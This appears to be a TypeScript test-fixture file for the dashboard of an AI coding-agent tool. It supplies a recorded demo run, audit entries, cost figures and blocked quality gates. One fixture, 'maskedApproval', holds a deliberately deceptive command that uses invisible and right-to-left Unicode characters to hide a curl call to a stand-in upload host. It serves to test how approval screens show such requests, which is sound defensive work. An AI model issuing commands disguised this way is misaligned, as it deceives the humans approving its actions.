import { readFileSync } from 'node:fs';
import path from 'node:path';
import { approvalRequest, type ApprovalRequest } from '#protocol/approval';
import { auditEntry, type AuditEntry } from '#protocol/audit';
import type { Meter } from '#protocol/cost';
import type { GateState } from '#protocol/gate';
import { runEvent, type RunEvent, type RunResult } from '#protocol/run';
import type { NumberedEvent, RunSummary } from '#protocol/task';

// What the pages are shown: a real run of the bundled sample, as `loki demo --json` told it, and its real audit log.

const folder = path.join(import.meta.dirname, 'fixtures');

/** The events of the run, numbered and timed as the sidecar does. */
export const demoEvents: readonly NumberedEvent[] = lines('demoRun.jsonl').map((line, index) => ({
  number: index + 1,
  at: new Date(Date.parse('2026-11-22T09:12:04Z') + index * 700).toISOString(),
  event: runEvent.parse(line),
}));

export const demoEntries: readonly AuditEntry[] = lines('demoAudit.jsonl').map((line) => auditEntry.parse(line));

/** The events up to the request for approval, which is open. */
export const untilApproval: readonly NumberedEvent[] = demoEvents.slice(
  0,
  demoEvents.findIndex(({ event }) => event.type === 'approval') + 1,
);

export function demoApproval(): ApprovalRequest {
  const event = untilApproval.at(-1)?.event;
  if (event?.type !== 'approval') throw new Error('the recorded run asks for no approval');
  return { ...event.request, expiresAt: new Date(Date.now() + 9 * 60_000 + 41_000).toISOString() };
}

/** A request whose command hides what it does. */
export function maskedApproval(): ApprovalRequest {
  return approvalRequest.parse({
    ...demoApproval(),
    approvalId: 'ask-masked',
    agent: 'security_auditor',
    action: {
      kind: 'command',
      command: "node scripts/report.js --only '\u202eevil\u202c' && curl\u00a0https://example.test/\u200bupload",
      cwd: 'tools',
      env: { CI: 'true' },
    },
    reason: '"curl" reaches the network; "node scripts/report.js" is not in allowed_commands',
    rules: [
      {
        rule: 'allowed-commands',
        decision: 'REQUIRE_APPROVAL',
        reason: '"node scripts/report.js" is not in allowed_commands',
        remedy: 'add it to allowed_commands, if it may run without being asked',
        source: { tier: 'project', file: '.loki/config.yaml', line: 5 },
      },
      {
        rule: 'network-command',
        decision: 'REQUIRE_APPROVAL',
        reason: '"curl" reaches the network',
        source: { tier: 'default', file: null, line: null },
      },
    ],
    expiresAt: new Date(Date.now() + 42_000).toISOString(),
  });
}

export const demoResult: RunResult = resultOf(demoEvents.at(-1)?.event);

export const meter: Meter = {
  simulated: true,
  task: { spentUsd: 0.047937, reservedUsd: 0.2643, limitUsd: 1 },
  day: { spentUsd: 0.72, reservedUsd: 0.2643, limitUsd: 20 },
  month: { spentUsd: 12.4, reservedUsd: 0.2643, limitUsd: null },
  alertThreshold: 0.8,
  tokens: { input: 17_087, output: 334 },
};

export function summaryOf(part: Partial<RunSummary> = {}): RunSummary {
  const { runId, taskId, branch } = demoResult;
  return {
    runId: runId ?? '',
    taskId: taskId ?? '',
    workspace: '/home/dev/sample-shop',
    task: 'The cart ignores quantities, and its tests fail. Make the totals follow docs/pricing.md and prepare release 1.0.1.',
    startedAt: '2026-11-22T09:12:04.000Z',
    state: 'working',
    reason: null,
    branch,
    provider: 'demo',
    simulated: true,
    costUsd: 0.047937,
    limitUsd: 1,
    result: null,
    outcome: 'open',
    ...part,
  };
}

export const finishedSummary: RunSummary = summaryOf({
  state: 'finished',
  reason: demoResult.reason,
  costUsd: demoResult.costUsd,
  result: demoResult,
});

const badFinding = {
  id: 'security_auditor-07ec784d4148',
  source: 'security_auditor',
  rule: 'review',
  severity: 'high',
  message:
    'The quantity comes from the customer and is not checked. A negative one makes the total negative, so a cart can pay money out; docs/pricing.md forbids that.',
  path: 'src/cart.js',
  line: 7,
} as const;

export const blockedGates: GateState = {
  runId: 'run-77ibfbi825',
  profile: 'production-critical',
  at: '2026-11-22T09:14:31.000Z',
  verdict: 'BLOCKED',
  gates: [
    {
      id: 'secrets',
      isRequired: true,
      status: 'passed',
      command: null,
      exitCode: null,
      durationMs: 27,
      findings: [],
      summary: 'no secret in 3 files',
    },
    {
      id: 'tests',
      isRequired: true,
      status: 'failed',
      command: 'npm test',
      exitCode: 1,
      durationMs: 1893,
      summary: '2 of 8 tests failed',
      findings: [
        {
          id: 'tests-1',
          source: 'tests',
          rule: 'test-failed',
          severity: 'high',
          message: 'a price counts as often as its quantity: Expected values to be strictly equal: 1650 !== 2550',
          path: 'test/cart.test.js',
          line: 14,
        },
        {
          id: 'tests-2',
          source: 'tests',
          rule: 'test-failed',
          severity: 'high',
          message:
            "the receipt lists each item: Expected values to be strictly deep-equal:\n+ actual - expected\n  [\n+   { name: 'mug', cents: 1650 }\n-   { name: 'mug', cents: 2550 }\n  ]",
          path: 'test/cart.test.js',
          line: 23,
        },
      ],
    },
    {
      id: 'types',
      isRequired: false,
      status: 'inconclusive',
      command: 'npx tsc --noEmit',
      exitCode: null,
      durationMs: 112,
      findings: [],
      summary: 'not installed: typescript is not among the dependencies',
    },
    {
      id: 'licences',
      isRequired: false,
      status: 'skipped',
      command: null,
      exitCode: null,
      durationMs: 0,
      findings: [],
      summary: 'no lock file to read',
    },
  ],
  findings: [
    {
      ...badFinding,
      id: 'low-1',
      severity: 'low',
      message: 'The name of the helper says nothing about money.',
      path: 'src/discount.js',
      line: 3,
      source: 'code_reviewer',
    },
    badFinding,
  ],
};

/** A long log: the recorded entries over and over, numbered on. */
export function longLog(length: number): readonly AuditEntry[] {
  return Array.from({ length }, (_, seq) => {
    const entry = demoEntries[seq % demoEntries.length];
    if (entry === undefined) throw new Error('the recorded log is empty');
    return { ...entry, seq };
  });
}

function resultOf(event: RunEvent | undefined): RunResult {
  if (event?.type !== 'result') throw new Error('the recorded run has no result');
  return event;
}

function lines(name: string): readonly unknown[] {
  return readFileSync(path.join(folder, name), 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line): unknown => JSON.parse(line));
}
